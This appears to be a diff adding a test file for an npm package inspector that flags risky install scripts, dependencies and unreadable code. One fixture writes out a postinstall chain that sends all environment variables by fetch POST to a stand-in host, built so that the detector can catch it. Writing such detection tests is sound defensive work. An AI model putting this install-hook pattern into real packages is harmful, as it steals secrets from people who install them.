@@ -1,0 +1,141 @@
+import t from 'tap'
+import type { ArchiveReading } from '../../src/archive/reading.ts'
+import { inspect, inspectorRevision } from '../../src/checks/inspect.ts'
+import type { CatalogueArtifact } from '../../src/model/artifact.ts'
+import { sha256 } from '../../src/model/digest.ts'
+import type { ContentFacts } from '../../src/model/fact.ts'
+import { readingOf } from './python-reading.ts'
+
+const ARTIFACT: CatalogueArtifact = {
+  ecosystem: 'npm',
+  name: 'sample',
+  version: '1.0.0',
+  filename: 'sample-1.0.0.tgz',
+  kind: 'npm-tarball',
+  url: 'https://registry.example/sample/-/sample-1.0.0.tgz',
+  claims: [],
+  publishedAt: null,
+  sizeBytes: null,
+  withdrawn: false,
+  publisher: null,
+  manifest: null,
+}
+
+function inspected(reading: ArchiveReading): Promise<ContentFacts> {
+  return inspect(reading, { artifact: ARTIFACT, digest: sha256('x'), integrity: 'verified' })
+}
+
+function npm(manifest: object, files: Readonly<Record<string, string>> = {}): Promise<ContentFacts> {
+  return inspected(readingOf('npm-tarball', { 'package.json': JSON.stringify(manifest, undefined, 2), ...files }))
+}
+
+const checksOf = (facts: ContentFacts): string[] => facts.findings.map(({ check }) => check)
+
+t.test('the chain from the script to the line that sends', async (t) => {
+  const facts = await npm(
+    { name: 'sample', scripts: { postinstall: 'npm run -s setup', setup: 'node scripts/setup' } },
+    {
+      'scripts/setup.js': `const { collect } = require('./lib')\nfetch('https://c.invalid/', { method: 'POST', body: collect() })`,
+      'scripts/lib/index.js': `exports.collect = () => JSON.stringify(process.env)`,
+    },
+  )
+  const finding = facts.findings.find(({ check }) => check === 'secrets-exfiltration')
+  t.match(finding, { severity: 'critical', confidence: 'high' })
+  t.same(
+    finding?.evidence.map(({ role, path, line }) => `${role} ${path}:${line}`),
+    [
+      'trigger package.json:4',
+      'step package.json:4',
+      'step package.json:5',
+      'source scripts/lib/index.js:1',
+      'sink scripts/setup.js:2',
+    ],
+  )
+  t.same(facts.installScripts, { postinstall: 'npm run -s setup' })
+  t.ok(facts.surfaceCapabilities.includes('network'))
+  t.equal(facts.inspector, inspectorRevision)
+})
+
+t.test('what runs at install and cannot be read is a finding', async (t) => {
+  const scripts = { install: 'node a.js' }
+  t.match(checksOf(await npm({ scripts }, { 'a.js': 'let let = (' })), ['check-failed'])
+  t.match(checksOf(await npm({ scripts }, { 'a.js': '('.repeat(100_000) })), ['check-failed'])
+  const reading = readingOf('npm-tarball', { 'package.json': JSON.stringify({ scripts }) })
+  const large = { path: 'a.js', archivePath: 'a.js', sizeBytes: 9e9, mode: 0, notKept: 'over the limit' }
+  t.match(checksOf(await inspected({ ...reading, entries: [...reading.entries, large] })), ['check-failed'])
+  t.same(
+    checksOf(await npm({ main: 'a.js' }, { 'a.js': 'let let = (' })),
+    [],
+    'an import is only said not to be examined',
+  )
+})
+
+t.test('manifests that are none, or are strange, are read as far as they go', async (t) => {
+  for (const text of [
+    '',
+    '{',
+    '[]',
+    'null',
+    '"x"',
+    '{"scripts":[1],"dependencies":"x","bin":7,"exports":{"a":[null,7]},"main":{}}',
+    '['.repeat(100_000),
+  ]) {
+    const facts = await inspected(readingOf('npm-tarball', { 'package.json': text, 'index.js': '' }))
+    t.same(facts.installScripts, {}, text.slice(0, 30))
+    t.notOk(checksOf(facts).includes('check-failed'), text.slice(0, 30))
+  }
+  const inherited = '{"scripts":{"__proto__":"x","constructor":"y"},"dependencies":{"__proto__":"git://c.invalid/x"}}'
+  t.ok(
+    checksOf(await inspected(readingOf('npm-tarball', { 'package.json': inherited }))).includes('direct-dependencies'),
+  )
+})
+
+t.test('dependencies of every group, direct ones marked', async (t) => {
+  const facts = await npm({
+    dependencies: { a: '^1.0.0', b: 'npm:c@1', d: 'github:e/f', g: 'h/i#main', j: 'https://c.invalid/j.tgz' },
+    optionalDependencies: { k: 'git+ssh://git@c.invalid/k.git' },
+    peerDependencies: { l: '1 || 2' },
+    bundledDependencies: ['m'],
+    devDependencies: { n: 'git://c.invalid/n' },
+  })
+  t.same(
+    facts.dependencies.map(({ name, group, direct }) => `${group} ${name}${direct ? ' direct' : ''}`),
+    [
+      'dependencies a',
+      'dependencies b',
+      'dependencies d direct',
+      'dependencies g direct',
+      'dependencies j direct',
+      'optionalDependencies k direct',
+      'peerDependencies l',
+      'bundledDependencies m',
+    ],
+  )
+})
+
+t.test('the surface digest follows what runs by itself, and nothing else', async (t) => {
+  const base = { 'a.js': '1', 'b.js': '2', 'README.md': 'x' }
+  const manifest = { version: '1.0.0', main: 'b.js', scripts: { install: 'node a.js', test: 'x' } }
+  const digest = async (change: object, files: Readonly<Record<string, string>> = {}): Promise<string> =>
+    (await npm({ ...manifest, ...change }, { ...base, ...files })).surfaceDigest
+  const before = await digest({})
+  t.equal(await digest({ version: '1.0.1' }, { 'README.md': 'y', 'unused.js': '3' }), before)
+  t.not(await digest({}, { 'a.js': '4' }), before)
+  t.not(await digest({}, { 'b.js': '4' }), before)
+  t.not(await digest({ scripts: { install: 'node  a.js' } }), before)
+})
+
+t.test('an implicit build runs where npm would run it', async (t) => {
+  const gyp = { 'binding.gyp': '{}', 'a.cc': '' }
+  t.same((await npm({}, gyp)).installScripts, { install: 'node-gyp rebuild' })
+  t.same((await npm({ gypfile: false }, gyp)).installScripts, {})
+  t.same((await npm({ scripts: { preinstall: 'true' } }, gyp)).installScripts, { preinstall: 'true' })
+  t.same((await npm({}, { 'src/binding.gyp': '{}' })).installScripts, {})
+})
+
+t.test('findings are bounded, and say so', async (t) => {
+  const dependencies = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`d${index}`, 'git://c.invalid/x']))
+  const facts = await npm({ dependencies })
+  t.ok(facts.findings.length <= 60)
+  t.match(facts.findings.at(-1)?.message, /found 300 places; 50 are listed/)
+})
